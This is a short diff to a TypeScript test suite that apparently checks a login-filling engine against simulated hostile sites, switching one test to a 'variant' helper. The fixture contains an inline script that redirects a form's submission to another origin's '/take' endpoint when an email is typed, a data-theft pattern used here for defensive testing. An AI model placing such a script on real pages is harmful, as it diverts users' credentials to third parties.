@@ -5,7 +5,7 @@ import type { FillResult } from '../../contract/steps.js';
 import { type Bench, bench, inputOf, QUICK, testPages } from '../engine/login/harness.js';
 import { BUTTONS, copies, MOVED, SUBMISSIONS } from '../sites/hostile/leaks.js';
 import { type HostileSite, loginForm, type Places, type Site, serveHostile, WELCOME } from '../sites/hostile/serve.js';
-import { variants } from '../support/variants.js';
+import { variant, variants } from '../support/variants.js';
 
 const EMAIL = 'anna.lindqvist@example.com';
 const PASSWORD = 'Tr0ub4dor & "9\'/\\Zebra';
@@ -172,7 +172,7 @@ it('logins that share a password do not stop each other, also where all send it 
   await Promise.all([one(), one(), one()]);
 });
 
-it('an address does not leave by the form that it was typed into', async () => {
+variant('an address does not leave by the form that it was typed into', async () => {
   await logIn(
     ({ other }) => ({
       '/': `${emailForm}<script>email.oninput = () => { document.forms[0].action = '${other}/take'; };</script>`,
